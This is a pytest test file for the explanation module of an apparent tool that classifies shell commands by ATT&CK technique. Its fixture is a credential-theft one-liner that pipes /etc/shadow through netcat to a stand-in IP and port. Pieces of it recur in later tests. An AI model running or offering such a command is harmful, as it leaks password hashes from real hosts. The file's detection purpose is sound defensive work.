"""The parts of an explanation add up, and what it says about changes is what the model really says."""

import json
from io import StringIO
from itertools import pairwise

import pytest
from rich.console import Console

from ttpline.domain.prediction import NORMAL
from ttpline.explain.explain import by_token, explain
from ttpline.explain.explanation import Explanation, Share
from ttpline.explain.render import marked_brackets, marked_colours, rendered
from ttpline.models.base import CommandClassifier
from ttpline.models.tfidf_lr import TfidfLr
from ttpline.testing.small_model import small_model

COMMAND = "cat /etc/shadow | nc 192.0.2.1 4444"


@pytest.fixture(scope="module")
def model() -> TfidfLr:
    return small_model()


def test_the_parts_and_the_intercept_are_the_log_probability_above_the_mean(model: TfidfLr) -> None:
    logits = model.logits([COMMAND])[0].astype(float)
    for explanation in explain(COMMAND, model).explanations:
        assert explanation.method == "additive"
        expected = logits[model.labels.index(explanation.label)] - logits.mean()
        assert explanation.total == pytest.approx(expected, abs=1e-5)


def test_the_techniques_and_normal_are_explained(model: TfidfLr) -> None:
    explanation = explain(COMMAND, model, top_k=2)
    labels = [each.label for each in explanation.explanations]
    assert labels[0] == "T1003.008"
    assert labels[-1] == NORMAL
    assert len(labels) == 3


def test_shares_are_places_in_the_command(model: TfidfLr) -> None:
    for explanation in explain(COMMAND, model).explanations:
        assert all(share.text == COMMAND[share.start : share.end] for share in explanation.shares)


def test_without_a_part_is_what_the_model_says_of_the_rest(model: TfidfLr) -> None:
    explanation = explain(COMMAND, model)
    assert explanation.without
    for each in explanation.without:
        rest = COMMAND[: each.removed.start] + COMMAND[each.removed.end :]
        assert each.prediction == model.predict([rest], explain=False)[0]


def test_the_runner_up_is_second_and_its_parts_make_the_gap(model: TfidfLr) -> None:
    runner_up = explain(COMMAND, model).runner_up
    assert runner_up is not None
    probabilities = model.probabilities([COMMAND])[0]
    ranked = sorted(zip(probabilities.tolist(), model.labels, strict=True), reverse=True)
    assert (runner_up.first, runner_up.second) == (ranked[0][1], ranked[1][1])
    assert runner_up.intercept + sum(share.weight for share in runner_up.shares) == pytest.approx(runner_up.gap)


def test_a_model_that_does_not_add_up_is_explained_by_leaving_parts_out(
    model: TfidfLr, monkeypatch: pytest.MonkeyPatch
) -> None:
    from ttpline.explain import explain as module

    monkeypatch.setattr(module, "AdditiveClassifier", type("Nothing", (), {}))
    as_base: CommandClassifier = model
    explanation = explain(COMMAND, as_base).explanations[0]
    assert explanation.method == "leave-one-out"
    assert explanation.strongest(1)[0].text in ("cat", "/etc/shadow")


@pytest.mark.parametrize("command", ["", " ", "\x1b[31m", "a" * 50_000, "\U0010ffff", "-la", "((((", "'"])
def test_any_command_can_be_explained(model: TfidfLr, command: str) -> None:
    explanation = explain(command, model)
    json.dumps(explanation.to_dict())
    assert "\x1b" not in plain(rendered(explanation, colour=False))


def plain(renderable: object) -> str:
    console = Console(file=StringIO(), width=100, no_color=True)
    console.print(renderable)
    assert isinstance(console.file, StringIO)
    return console.file.getvalue()


def test_n_grams_are_shared_among_their_words_and_the_sum_stays(model: TfidfLr) -> None:
    for explanation in explain(COMMAND, model).explanations:
        words = by_token(COMMAND, explanation.shares)
        assert sum(word.weight for word in words) == pytest.approx(sum(share.weight for share in explanation.shares))
        assert all(left.end <= right.start for left, right in pairwise(words))


def test_brackets_mark_parts_without_colour() -> None:
    shares = [Share(0, 3, "cat", 1.0), Share(4, 15, "/etc/shadow", -3.0), Share(16, 17, "|", 0.01)]
    assert marked_brackets("cat /etc/shadow | nc", shares) == "[+ cat] [-- /etc/shadow] | nc"


def test_colours_mark_the_same_parts() -> None:
    shares = [Share(0, 3, "cat", 1.0), Share(4, 15, "/etc/shadow", -3.0)]
    marked = marked_colours("cat /etc/shadow | nc", shares)
    assert marked.plain == "cat /etc/shadow | nc"
    assert [str(span.style) for span in marked.spans][:3] == ["green", "dim", "bold underline red"]


def test_the_text_shows_parse_parts_and_changes(model: TfidfLr) -> None:
    text = plain(rendered(explain(COMMAND, model), colour=False))
    assert "part 2" in text and "nc 192.0.2.1 4444" in text
    assert "T1003.008 OS Credential Dumping: /etc/passwd and /etc/shadow" in text
    assert "without one part, the answer is" in text
    assert "runner-up" in text


def test_total_is_intercept_and_parts() -> None:
    explanation = Explanation("T1", "x", (), 0.5, "additive", 0.25, (Share(0, 1, "a", 0.5), Share(1, 2, "b", -1.0)))
    assert explanation.total == -0.25
